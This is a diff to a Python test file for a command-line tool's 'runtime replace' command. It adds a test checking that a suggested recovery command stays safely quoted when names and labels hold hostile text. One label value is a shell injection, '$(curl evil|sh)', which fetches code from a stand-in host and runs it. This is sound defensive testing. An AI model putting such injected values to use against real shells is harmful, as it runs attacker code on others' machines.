@@ -1,5 +1,7 @@
 """`spinctl runtime replace`: a new identity under the old name."""
 
+import asyncio
+import re
 from pathlib import Path
 
 from tests.client.conftest import Bench, Spinctl
@@ -36,4 +38,18 @@ async def test_without_a_terminal_it_wants_a_yes(signed_in: Spinctl, bench: Benc
 async def test_a_record_that_could_not_be_made_again_is_told_with_the_way_on(signed_in: Spinctl, bench: Bench) -> None:
     bench.control_plane.refuses_runtimes = True
     failed = await signed_in("runtime", "replace", "here", "--wait", "0", "--yes")
-    assert failed.status != 0 and "spinctl runtime add 'here'" in failed.err
+    assert failed.status != 0 and f"`spinctl runtime add --default -- here {bench.runtime.url}`" in failed.err
+
+
+async def test_the_way_on_is_one_command_whatever_the_names(signed_in: Spinctl, bench: Bench) -> None:
+    """It is pasted into a shell, by somebody else than who chose the names."""
+    record = bench.control_plane.runtimes[bench.registered.id]
+    record.name = "--wait its turn"
+    record.labels["zone"] = "$(curl evil|sh)"
+    bench.control_plane.refuses_runtimes = True
+    failed = await signed_in("runtime", "replace", record.id, "--wait", "0", "--yes")
+    (command,) = re.findall("`(.+)`", failed.err)
+    words = await asyncio.create_subprocess_exec("sh", "-c", f"printf '%s\\n' {command}", stdout=asyncio.subprocess.PIPE)
+    said, _ = await words.communicate()
+    options = ["--default", "--label=zone=$(curl evil|sh)"]
+    assert said.decode().splitlines() == ["spinctl", "runtime", "add", *options, "--", "--wait its turn", bench.runtime.url]
